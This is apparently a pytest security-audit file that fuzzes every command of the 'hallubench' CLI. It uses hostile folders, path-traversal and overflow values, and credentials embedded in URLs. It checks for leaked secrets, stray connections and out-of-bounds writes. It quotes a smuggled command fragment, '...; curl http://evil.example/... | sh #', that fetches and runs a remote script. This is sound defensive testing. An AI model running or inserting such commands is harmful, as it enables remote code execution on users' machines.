"""Watched, not listed: every `hallubench` command, found by walking the CLI's parser, over a generated corpus of
hostile folders (audit_support.py), run in a child process under a Python audit hook. The test fails on any write or
removal outside the given folders, the outputs and the caches; any read of the file outside; any connection to an
endpoint the user did not give; any process, import or compile that data named; a secret shown, recorded in an
output or uploaded to the stand-in Hub; any traceback, or an error longer than one line.

Every command meets every hostile class that has a way into it (a folder it reads, a path it writes, a value it
takes) at least once, whatever the budget; then Hypothesis draws further flag values and folder variants until
HALLUBENCH_AUDIT_SECONDS (default 60, counted from the test's start, at least 10 s of draws) are spent. HALLUBENCH_AUDIT_SEED replays a run; HALLUBENCH_AUDIT_REPORT names
a JSON file to write every finding to."""
from __future__ import annotations

import json
import os
import random
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, seed, settings, strategies as st

import audit_support as audit
from conftest import start_server, stop_server
from hub_server import StandInHub

from hallubench.cli.main import build_parser

SECONDS = float(os.environ.get("HALLUBENCH_AUDIT_SECONDS", "60"))
MIN_EXTRA_SECONDS = 10  # Hypothesis's draws run at least this long, even when the cases every command meets took all
# A fresh seed on a developer's machine explores new draws each run; CI replays one seed, so that a draw no one has
# looked at yet cannot turn a submission red (a finding a fresh seed makes is replayed with HALLUBENCH_AUDIT_SEED).
CI_SEED = 9
SEED = int(os.environ.get("HALLUBENCH_AUDIT_SEED")
           or (CI_SEED if os.environ.get("CI", "").lower() == "true" else random.SystemRandom().randrange(2 ** 31)))
CASE_LIMIT = 6  # seconds one command may take before it is stopped (a stopped case is reported, not failed)
SETUP_LIMIT = 400


@pytest.fixture
def servers():
    """The user's endpoints (a stand-in OpenAI server and the stand-in Hub) and a trap no one may reach: every URL
    that hostile data carries points at it."""
    openai, trap, hub = start_server(), start_server(), StandInHub({})
    yield {"openai": openai, "trap": trap, "hub": hub}
    for httpd in (openai, trap):
        stop_server(httpd)
    hub.close()


class Child:
    """The audited process: makes the base folders, then runs the cases it is given, one log line each."""

    def __init__(self, root: Path, env: dict[str, str]):
        self.root, self.env, self.log, self.n = root, env, root / "log.jsonl", 0
        self.proc = None

    def start(self, setup: dict | None) -> Path:
        self.n += 1
        setup_path = "-"
        if setup is not None:
            setup_path = self.root / "setup.json"
            setup_path.write_text(json.dumps(setup))
        cases = self.root / f"cases-{self.n}.json"
        self.proc = subprocess.Popen([sys.executable, str(Path(audit.__file__)), str(setup_path), str(cases),
                                      str(self.log)], env=self.env, cwd=self.root, stdout=subprocess.DEVNULL,
                                     stderr=open(self.root / f"child-{self.n}.err", "w"))
        return cases

    def close(self) -> None:
        if self.proc is not None and self.proc.poll() is None:
            self.proc.kill()
            self.proc.wait()

    def lines(self) -> list[dict]:
        if not self.log.exists():
            return []
        return [json.loads(line) for line in self.log.read_text().splitlines() if line.strip()]


def _write_atomically(path: Path, data: dict) -> None:
    tmp = path.with_suffix(".tmp")
    tmp.write_text(json.dumps(data))
    os.replace(tmp, path)


def _env(inside: Path, hub_url: str) -> dict[str, str]:
    """The child's environment: its home, caches and temporary files inside the audit's folder, the stand-in Hub as
    the Hub with the user's token, the stand-in OpenAI server's key in AUDIT_KEY."""
    for name in ("home", "hf-home", "cache", "tmp"):
        (inside / name).mkdir(parents=True, exist_ok=True)
    env = {k: v for k, v in os.environ.items() if not k.startswith(("HF_", "HUGGING"))}
    env.update(HOME=str(inside / "home"), HF_HOME=str(inside / "hf-home"), XDG_CACHE_HOME=str(inside / "cache"),
               MPLCONFIGDIR=str(inside / "cache" / "mpl"), TMPDIR=str(inside / "tmp"), HF_ENDPOINT=hub_url,
               HF_TOKEN=audit.TOKEN, HF_TOKEN_PATH=str(inside / "no-token"), AUDIT_KEY="sk-audit-" + "0" * 30,
               PYTHONUNBUFFERED="1", HF_HUB_DISABLE_TELEMETRY="1")
    if "HF_MODULES_CACHE" in os.environ:
        env["HF_MODULES_CACHE"] = os.environ["HF_MODULES_CACHE"]
    return env


class Corpus:
    """The cases: each a command line, the variant it meets, its own folder."""

    def __init__(self, inside: Path, bases: dict[str, Path], outside: audit.Outside, servers):
        self.inside, self.bases, self.outside = inside, bases, outside
        self.openai_url = f"http://127.0.0.1:{servers['openai'].server_port}/v1"
        self.credential_url = f"http://audit:{audit.SECRET}@127.0.0.1:{servers['openai'].server_port}/v1"
        trap_url = f"http://audit:{audit.SECRET}@127.0.0.1:{servers['trap'].server_port}/v1"
        self.variants = {kind: audit.variants(kind, bases[kind], outside, trap_url)
                         for kind in ("run", "ranking", "dataset", "release")}
        self.variants["config"] = audit.config_variants(bases["config"], self.credential_url)
        self.cases: list[dict] = []
        self.output_names = sorted({name for kind in ("run", "ranking") for name in audit.files_of(bases[kind])}
                                   | {"samples_rank0.jsonl", "index.html", "assets/style.css"})

    def add(self, words, parser, variant: str = "plain", kind: str | None = None, options=(), extra=False,
            hostile_out=False) -> None:
        n = len(self.cases)
        case = self.inside / "cases" / str(n)
        folders = {k: Path(shutil.copytree(self.bases[k], case / k, symlinks=True)) for k in ("run", "run2", "ranking")}
        folders.update(dataset=self.bases["dataset"], release=self.bases["release"], config=self.bases["config"])
        if kind:
            target = case / f"hostile-{kind}"
            made = self.variants[kind][variant](target)
            folders[kind] = made
        out, people = case / "out", []
        if hostile_out:
            out.mkdir(parents=True)
            for action in parser._actions:
                if audit.writes(action):
                    people.append(str(audit.hostile_output(out / action.dest, self.outside, self.output_names)
                                      / audit.PERSONS_FILE))
        inputs = audit.Inputs(folders, self.openai_url)
        positional = {a.dest for a in parser._actions if not a.option_strings}
        argv = audit.base_argv(words, parser, inputs, out, pick=n if extra else 0,
                               positional={dest: value for dest, value in options if dest in positional})
        options = [(dest, value) for dest, value in options if dest not in positional]
        if kind == "ranking":  # `view` reads either: give it the hostile ranking in place of the run
            argv = [str(folders["ranking"]) if a == str(folders["run"]) else a for a in argv]
        if hostile_out and any(a.dest == "overwrite" for a in parser._actions):
            argv.append("--overwrite")
        if kind == "config":
            argv = audit.with_option(argv, parser, "config", str(folders["config"]))
        for dest, value in options:
            argv = audit.with_option(argv, parser, dest, value)
        self.cases.append({"id": str(n), "argv": argv, "cwd": str(case), "out": str(out), "limit": CASE_LIMIT,
                           "extra": extra, "command": " ".join(words),
                           "variant": f"{kind}:{variant}" if kind else variant,
                           "options": [list(o) for o in options], "people": people})

    def kinds_read(self, parser) -> list[str]:
        """The hostile folder kinds that have a way into a command: the folders it reads, its data, its config."""
        kinds = []
        for action in parser._actions:
            mark = getattr(action, "reads_folders", None)
            if mark:
                kinds += ["run", "ranking"] if mark == "any" else [mark]
            elif action.dest in ("data_dir", "source", "config"):
                kinds.append({"data_dir": "dataset", "source": "release", "config": "config"}[action.dest])
        return list(dict.fromkeys(kinds))

    def guaranteed(self, leaves) -> None:
        """Every command plain; against each class of variant (a link out, no manifest, ...) of every folder kind it
        reads, the linked file in turn, then each file's link once more where no command met it yet; with hostile
        output folders; each class of hostile value once (on its options in turn), credentials in its *_args; every
        registry entry once."""
        rotation = ["nan", "1" + "0" * 400, "1e309", "é\udcff", str(self.outside.secret), f"../../{audit.MARK}",
                    audit.HOSTILE_COMMAND, "-inf"]
        i, turns, met, readers = 0, {}, set(), {}
        for words, parser in leaves:
            self.add(words, parser)
            for kind in self.kinds_read(parser):
                readers.setdefault(kind, []).append((words, parser))
                by_class = {}
                for variant in self.variants[kind]:
                    by_class.setdefault(variant.split(":")[0], []).append(variant)
                for group in by_class.values():
                    turn = turns[kind, group[0]] = turns.get((kind, group[0]), -1) + 1
                    met.add((kind, group[turn % len(group)]))
                    self.add(words, parser, group[turn % len(group)], kind)
            if any(audit.writes(a) for a in parser._actions):
                self.add(words, parser, "hostile-output", hostile_out=True)
            valued = [a for a in audit.fuzzable(parser) if a.nargs != 0]
            for j, value in enumerate(rotation if valued else []):  # each class once, on the options in turn
                i += 1
                self.add(words, parser, "flag-value", options=[(valued[(i + j) % len(valued)].dest, value)])
            for action in valued:
                if action.dest.endswith("_args"):
                    extra = ",pretrained=x,api_key_env=AUDIT_KEY" + (",adapter=openai" if action.dest != "model_args"
                                                                     else "")
                    self.add(words, parser, "credential-flag",
                             options=[(action.dest, f"base_url={self.credential_url}{extra}")] +
                             ([("judge", "llm")] if action.dest == "judge_args" else []) +
                             ([("push_to_hub", "me/audit-push")] if "push_to_hub" in
                              {a.dest for a in parser._actions} else []))
        names, takers = audit.registry_names(), {}
        for words, parser in leaves:
            for action in parser._actions:
                if registry := audit.registry_of(action):
                    takers.setdefault(registry, []).append((words, parser, action.dest))
        for registry, entries in names.items():  # every task, model, judge, builder and metric once
            for n, entry in enumerate(entries):
                words, parser, dest = takers[registry][n % len(takers[registry])]
                kinds = self.kinds_read(parser)
                kind = kinds[n % len(kinds)] if kinds else None
                variant = sorted(self.variants[kind])[n % len(self.variants[kind])] if kind else "plain"
                self.add(words, parser, variant, kind, options=[(dest, entry)])
        for kind, variants in self.variants.items():
            for n, variant in enumerate(v for v in variants if (kind, v) not in met):
                words, parser = readers[kind][n % len(readers[kind])]
                self.add(words, parser, variant, kind)

    def extras(self, leaves, count: int) -> None:
        """Hypothesis draws: a command, a folder variant of a kind it reads, 1-3 options with hostile values."""
        drawn = []
        values = st.one_of(st.sampled_from(audit.HOSTILE_VALUES), st.text(max_size=30),
                           st.floats().map(repr), st.integers().map(str))

        @settings(max_examples=count, database=None, deadline=None, suppress_health_check=list(HealthCheck))
        @given(st.data())
        def draw(data):
            words, parser = data.draw(st.sampled_from(leaves))
            kinds = self.kinds_read(parser)
            kind = data.draw(st.sampled_from([None, *kinds]))
            variant = data.draw(st.sampled_from(sorted(self.variants[kind]))) if kind else "plain"
            actions = audit.fuzzable(parser)
            options = []
            for action in data.draw(st.lists(st.sampled_from(actions), min_size=1, max_size=3, unique_by=id)) \
                    if actions else []:
                if action.nargs == 0:
                    options.append((action.dest, None))
                else:
                    choice = st.sampled_from(list(action.choices)).map(str) if action.choices else values
                    options.append((action.dest, data.draw(st.one_of(choice, values))))
            drawn.append((words, parser, variant, kind, options))

        seed(SEED)(draw)()
        for words, parser, variant, kind, options in drawn:
            self.add(words, parser, variant, kind, options, extra=True)


def _run_all(child: Child, cases: list[dict], cases_path: Path, deadline: float) -> dict[str, dict]:
    """Every case run in the child (restarted where one crashed or hung), the extra ones until `deadline` (epoch
    seconds; at least MIN_EXTRA_SECONDS of them); id -> its log line."""
    todo, results = list(cases), {}
    while todo:
        _write_atomically(cases_path, {"cases": todo, "outside": str(child.outside), "deadline": deadline,
                                       "min_extra": MIN_EXTRA_SECONDS, "hub": child.hub})
        last, last_change = len(child.lines()), time.monotonic()
        while child.proc.poll() is None:
            time.sleep(0.2)
            now = len(child.lines())
            if now != last:
                last, last_change = now, time.monotonic()
            elif time.monotonic() - last_change > CASE_LIMIT + 60:
                child.proc.kill()
                child.proc.wait()
        lines = child.lines()
        results.update({line["id"]: line for line in lines if "id" in line})
        begun = [line["start"] for line in lines if "start" in line]
        hung = next((b for b in reversed(begun) if b not in results), None)
        if hung is not None:
            results[hung] = {"id": hung, "code": None, "timed_out": False, "escaped": None, "stdout": "",
                             "stderr": open(child.root / f"child-{child.n}.err").read()[-3000:], "events": [],
                             "crashed": True}
        todo = [c for c in todo if c["id"] not in results and not (c["extra"] and time.time() > deadline)]
        if todo:
            cases_path = child.start(None)
    return results


def _uploads_by_case(hub: StandInHub) -> dict[str, list[bytes]]:
    """The Hub's calls after each case's marker request: what that case sent."""
    by_case, current = {}, None
    for call in hub.seen:
        if call["url"].startswith("/audit-case/"):
            current = call["url"].rsplit("/", 1)[1]
        elif current is not None:
            by_case.setdefault(current, []).append(call["url"].encode() + b"\n" + call["body"])
    return by_case


def _recorded_secrets(case: dict) -> list[str]:
    found = []
    for path in Path(case["out"]).rglob("*") if Path(case["out"]).is_dir() else []:
        if path.is_file() and not path.is_symlink():
            for secret in audit.secrets_in(path.read_bytes()):
                found.append(f"secret {secret[:12]}... recorded in {path.relative_to(case['cwd'])}")
    return found


def _audit(child: Child, setup: dict, inside: Path, outside: audit.Outside, servers, deadline: float):
    """The base folders made, the corpus generated and run: (results by case id, the corpus, the planted misdeeds,
    how many cases are guaranteed)."""
    cases_path = child.start(setup)
    setup_deadline = time.monotonic() + SETUP_LIMIT
    while not (bases := next((line["bases"] for line in child.lines() if "bases" in line), None)):
        assert child.proc.poll() is None and time.monotonic() < setup_deadline, (
            "the audit child could not make its base folders: " + (inside / "child-1.err").read_text()[-3000:])
        time.sleep(0.2)
    outside.plant_run(Path(bases["run"]))
    corpus = Corpus(inside, {k: Path(v) for k, v in bases.items()}, outside, servers)
    leaves = list(audit.leaf_commands(build_parser()))
    corpus.guaranteed(leaves)
    plants = audit.planted(outside, servers["trap"].server_port)
    for name, (code, _) in plants.items():
        plant = inside / "cases" / "plant"
        corpus.cases.append({"id": f"plant-{name.replace(' ', '-')}", "plant": code, "argv": [], "cwd": str(plant),
                             "out": str(plant / "out"), "limit": CASE_LIMIT, "extra": False, "command": "(planted)",
                             "variant": name, "options": [], "people": []})
    guaranteed = len(corpus.cases)
    corpus.extras(leaves, 200)
    return _run_all(child, corpus.cases, cases_path, deadline), corpus, plants, guaranteed


def test_every_command_over_the_hostile_corpus(tmp_path, servers):
    deadline = time.time() + SECONDS
    inside, outside = tmp_path / "inside", audit.Outside(tmp_path / "outside")
    child = Child(inside, _env(inside, servers["hub"].url))
    child.outside, child.hub = str(outside.root), servers["hub"].url
    setup = {"root": str(inside / "bases"), "openai_url": f"http://127.0.0.1:{servers['openai'].server_port}/v1"}
    try:
        results, corpus, plants, guaranteed = _audit(child, setup, inside, outside, servers, deadline)
    finally:
        child.close()

    uploads = _uploads_by_case(servers["hub"])
    ports = {servers["openai"].server_port, int(servers["hub"].url.rsplit(":", 1)[1])}
    roots = [str(inside.resolve()), os.environ.get("HF_MODULES_CACHE", str(inside))]
    findings, stopped = [], []
    for case in corpus.cases:
        result = results.get(case["id"])
        if result is None:
            continue
        given = [os.path.realpath(os.path.join(case["cwd"], value)) for _, value in case["options"]
                 if value and "/" in value and "\0" not in value]  # paths the user named: theirs to read and write
        problems = audit.judge(result["events"], roots, str(outside.root.resolve()), ports, given)
        if result.get("crashed"):
            problems.append(f"the process died or hung past {CASE_LIMIT + 60} s: {result['stderr'][-300:]!r}")
        elif result["timed_out"]:
            stopped.append(case)
        else:
            problems += audit.error_problems(result["code"], result["stdout"], result["stderr"])
        kind = case["variant"].split(":")[0]
        if (case["variant"].endswith(":no-manifest") and result["code"] == 0
                and not (Path(case["cwd"]) / f"hostile-{kind}" / audit.MANIFEST).exists()):  # nor made whole again
            problems.append(f"a {kind} folder without its manifest ({audit.MANIFEST}) was accepted (exit 0)")
        shown = result["stdout"] + result["stderr"]
        if audit.HOSTILE_COMMAND.split("; ")[1][:30] in shown and not case["options"]:
            problems.append("a command from data shown on the terminal (`...; curl http://evil.example/... | sh #`)")
        problems += [f"{Path(path).parent}: a folder hallubench did not make was replaced (its thesis.txt is gone)"
                     for path in case["people"] if not Path(path).exists()]
        problems += _recorded_secrets(case)
        problems += [f"secret {s[:12]}... uploaded to the Hub" for data in uploads.get(case["id"], [])
                     for s in audit.secrets_in(data)]
        findings += [{"command": case["command"], "variant": case["variant"], "problem": p,
                      "argv": case["argv"], "case": case["id"]} for p in dict.fromkeys(problems)]
    missed = [name for name, (_, says) in plants.items()
              if not any(f["case"] == f"plant-{name.replace(' ', '-')}" and says in f["problem"] for f in findings)]
    assert not missed, f"the audit did not see these planted misdeeds: {missed}"
    findings = [f for f in findings if f["command"] != "(planted)"]
    if os.environ.get("HALLUBENCH_AUDIT_REPORT"):
        Path(os.environ["HALLUBENCH_AUDIT_REPORT"]).write_text(json.dumps(
            {"seed": SEED, "cases": len(results), "stopped": [c["id"] for c in stopped], "findings": findings},
            indent=1))
    ran = [c for c in corpus.cases[:guaranteed] if c["id"] in results]
    assert len(ran) == guaranteed, f"only {len(ran)} of the {guaranteed} cases every command must meet ran"
    def short(text: str) -> str:
        return text.replace(str(tmp_path), "$AUDIT")

    lines = [f"{f['command']} [{f['variant']}]: {short(f['problem'])}\n    hallubench {short(' '.join(f['argv']))[:700]}"
             for f in findings]
    assert not findings, (f"{len(findings)} findings in {len(results)} cases (HALLUBENCH_AUDIT_SEED={SEED} replays "
                          f"them; {len(stopped)} stopped at {CASE_LIMIT} s; $AUDIT is {tmp_path}):\n" +
                          "\n".join(lines[:200]))
